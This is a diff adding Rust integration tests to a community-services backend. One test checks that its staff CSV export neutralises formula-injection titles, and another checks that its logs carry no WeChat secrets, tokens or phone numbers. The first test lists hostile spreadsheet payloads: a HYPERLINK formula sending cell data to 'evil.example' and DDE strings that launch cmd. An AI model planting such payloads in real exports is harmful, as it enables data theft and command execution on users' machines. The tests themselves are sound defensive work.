@@ -1039,3 +1039,297 @@ async fn a_disabled_account_is_refused_even_with_a_live_session() {
         .await;
     expect_problem(refreshed, StatusCode::UNAUTHORIZED, "account_disabled").await;
 }
+
+// ---------------------------------------------------------------------------------------
+// 12. CSV cells a spreadsheet would run as formulas
+
+#[tokio::test]
+async fn demand_titles_that_look_like_formulas_reach_the_csv_export_as_text() {
+    let app = spawn_app().await;
+    let alice = app.login_resident("alice").await.access_token;
+    let categories = expect_json(
+        app.get("/api/v1/demand-categories", None).await,
+        StatusCode::OK,
+    )
+    .await;
+    let community_id = app.org_id("新华社区").await;
+    let hostile = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"查看详情\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+    ];
+    for title in hostile {
+        expect_json(
+            app.post(
+                "/api/v1/demands",
+                &json!({"category_id": categories[0]["id"], "title": title, "description": "公式",
+                        "community_id": community_id}),
+                Some(&alice),
+            )
+            .await,
+            StatusCode::CREATED,
+        )
+        .await;
+    }
+    let staff = app
+        .login_staff("community", DEMO_PASSWORD)
+        .await
+        .access_token;
+    let csv = app
+        .get("/api/v1/staff/exports/demands.csv", Some(&staff))
+        .await
+        .text()
+        .await
+        .unwrap();
+    for line in csv.lines().skip(1) {
+        // The title is the second field; no field of any row may start a formula.
+        for field in line.split(',') {
+            let bare = field.trim_start_matches('"');
+            assert!(
+                !bare.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a formula reaches Excel: {line}"
+            );
+        }
+    }
+    for title in hostile {
+        let quoted = format!("\"'{}\"", title.replace('"', "\"\""));
+        assert!(csv.contains(&quoted), "{title} not neutralised in:\n{csv}");
+    }
+}
+
+// ---------------------------------------------------------------------------------------
+// 14. Logs carry no codes, tokens, secrets or phone numbers
+
+/// A server process in live WeChat mode against a local stand-in, logging at `debug`, driven
+/// through a login, a phone binding, a WeChat failure whose error text holds the request URL
+/// (with the app secret and the resident's `js_code`), staff logins and a merchant invite:
+/// none of the secrets appears in any line it logged.
+#[tokio::test]
+async fn a_whole_scripted_run_leaves_no_secret_in_the_logs() {
+    use wiremock::matchers::{method, path, query_param};
+    use wiremock::{Mock, MockServer, ResponseTemplate};
+    const APP_SECRET: &str = "app-secret-7f3a9c2e51";
+    const WECHAT_TOKEN: &str = "WECHAT-ACCESS-TOKEN-5e1d";
+    const PHONE: &str = "13912345678";
+    let wechat = MockServer::start().await;
+    for (code, openid) in [
+        ("login-code-owner-91ab", "o-owner"),
+        ("login-code-staff-22cd", "o-helper"),
+    ] {
+        Mock::given(method("GET"))
+            .and(path("/sns/jscode2session"))
+            .and(query_param("js_code", code))
+            .respond_with(
+                ResponseTemplate::new(200)
+                    .set_body_json(json!({"openid": openid, "session_key": "sk-8d7e"})),
+            )
+            .mount(&wechat)
+            .await;
+    }
+    // A reply that is not JSON: reqwest's decode error names the URL it fetched.
+    Mock::given(method("GET"))
+        .and(path("/sns/jscode2session"))
+        .and(query_param("js_code", "login-code-broken-33ef"))
+        .respond_with(ResponseTemplate::new(200).set_body_string("<html>gateway</html>"))
+        .mount(&wechat)
+        .await;
+    Mock::given(method("POST"))
+        .and(path("/cgi-bin/stable_token"))
+        .respond_with(
+            ResponseTemplate::new(200)
+                .set_body_json(json!({"access_token": WECHAT_TOKEN, "expires_in": 7200})),
+        )
+        .mount(&wechat)
+        .await;
+    Mock::given(method("POST"))
+        .and(path("/wxa/business/getuserphonenumber"))
+        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
+            "errcode": 0, "errmsg": "ok",
+            "phone_info": {"phoneNumber": PHONE, "purePhoneNumber": PHONE, "countryCode": "86"}
+        })))
+        .mount(&wechat)
+        .await;
+
+    let database_url = linli_tests::fresh_database_url().await;
+    let env: std::collections::HashMap<String, String> = [
+        ("LINLI__DATABASE__URL", database_url.as_str()),
+        ("LINLI__WECHAT__MODE", "live"),
+        ("LINLI__WECHAT__BASE_URL", &wechat.uri()),
+        ("LINLI__WECHAT__APP_ID", "wx-linli-test"),
+        ("LINLI__WECHAT__APP_SECRET", APP_SECRET),
+        ("LINLI__LOG__FILTER", "debug,hyper=info,h2=info,rustls=info"),
+        ("LINLI__LOG__FORMAT", "json"),
+    ]
+    .into_iter()
+    .map(|(k, v)| (k.to_owned(), v.to_owned()))
+    .collect();
+    let server =
+        linli_tests::process::spawn_server_process(linli_tests::server_binary!(), &env).await;
+    let base = server.address.clone();
+    let client = reqwest::Client::new();
+    let post = |path: &str, token: Option<&str>, body: serde_json::Value| {
+        let mut request = client.post(format!("{base}{path}")).json(&body);
+        if let Some(t) = token {
+            request = request.bearer_auth(t);
+        }
+        request.send()
+    };
+    let login = |code: &'static str| {
+        let post = &post;
+        async move {
+            expect_json(
+                post("/api/v1/auth/wechat-login", None, json!({"code": code}))
+                    .await
+                    .unwrap(),
+                StatusCode::OK,
+            )
+            .await
+        }
+    };
+    let owner = login("login-code-owner-91ab").await;
+    let owner_token = owner["access_token"].as_str().unwrap().to_owned();
+    let owner_refresh = owner["refresh_token"].as_str().unwrap().to_owned();
+    expect_json(
+        post(
+            "/api/v1/me/phone",
+            Some(&owner_token),
+            json!({"code": "phone-code-44aa"}),
+        )
+        .await
+        .unwrap(),
+        StatusCode::OK,
+    )
+    .await;
+    let broken = post(
+        "/api/v1/auth/wechat-login",
+        None,
+        json!({"code": "login-code-broken-33ef"}),
+    )
+    .await
+    .unwrap();
+    assert_eq!(broken.status(), StatusCode::BAD_GATEWAY);
+    let refreshed = expect_json(
+        post(
+            "/api/v1/auth/refresh",
+            None,
+            json!({"refresh_token": owner_refresh}),
+        )
+        .await
+        .unwrap(),
+        StatusCode::OK,
+    )
+    .await;
+    let owner_token = refreshed["access_token"].as_str().unwrap().to_owned();
+    let wrong = post(
+        "/api/v1/auth/staff-login",
+        None,
+        json!({"username": "street", "password": "wrong-password-x9"}),
+    )
+    .await
+    .unwrap();
+    assert_eq!(wrong.status(), StatusCode::UNAUTHORIZED);
+    let street = expect_json(
+        post(
+            "/api/v1/auth/staff-login",
+            None,
+            json!({"username": "street", "password": DEMO_PASSWORD}),
+        )
+        .await
+        .unwrap(),
+        StatusCode::OK,
+    )
+    .await;
+    let street_token = street["access_token"].as_str().unwrap().to_owned();
+    let tree: serde_json::Value = client
+        .get(format!("{base}/api/v1/orgs"))
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    let community = linli_tests::find_org(&tree, "新华社区").unwrap();
+    let merchant = expect_json(
+        post(
+            "/api/v1/merchants/applications",
+            Some(&owner_token),
+            json!({"name": "日志小店", "category": "生活服务", "license_no": "91140200MA0LOGS", "address": "新华街9号",
+                   "contact_phone": "13700001111", "community_id": community}),
+        )
+        .await
+        .unwrap(),
+        StatusCode::CREATED,
+    )
+    .await;
+    let merchant_id = merchant["id"].as_str().unwrap();
+    expect_json(
+        post(
+            &format!("/api/v1/staff/merchants/{merchant_id}/approve"),
+            Some(&street_token),
+            json!({}),
+        )
+        .await
+        .unwrap(),
+        StatusCode::OK,
+    )
+    .await;
+    let invite = expect_json(
+        post(
+            &format!("/api/v1/merchants/{merchant_id}/invites"),
+            Some(&owner_token),
+            json!({}),
+        )
+        .await
+        .unwrap(),
+        StatusCode::CREATED,
+    )
+    .await;
+    let invite_code = invite["code"].as_str().unwrap().to_owned();
+    let helper = login("login-code-staff-22cd").await;
+    let helper_token = helper["access_token"].as_str().unwrap().to_owned();
+    let accepted = post(
+        &format!("/api/v1/merchant-invites/{invite_code}/accept"),
+        Some(&helper_token),
+        json!({}),
+    )
+    .await
+    .unwrap();
+    assert!(accepted.status().is_success(), "{}", accepted.status());
+
+    // Let the last lines reach the pipe, then scan everything the process wrote.
+    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
+    let lines = server.log_lines();
+    assert!(lines.len() > 20, "the run was logged: {lines:?}");
+    assert!(
+        lines
+            .iter()
+            .any(|l| l.contains("request failed") && l.contains("wechat_unavailable")),
+        "the WeChat failure itself is logged (without its URL's secrets): {lines:#?}"
+    );
+    let secrets = [
+        APP_SECRET,
+        WECHAT_TOKEN,
+        PHONE,
+        "13700001111",
+        "login-code-owner-91ab",
+        "login-code-broken-33ef",
+        "phone-code-44aa",
+        // (The demo password is public and printed at start on purpose: not scanned.)
+        "wrong-password-x9",
+        &invite_code,
+        &owner_token,
+        &owner_refresh,
+        refreshed["refresh_token"].as_str().unwrap(),
+        &street_token,
+        &helper_token,
+    ];
+    for line in &lines {
+        for secret in secrets {
+            assert!(
+                !line.contains(secret),
+                "a secret ({secret}) reached the log: {line}"
+            );
+        }
+    }
+}
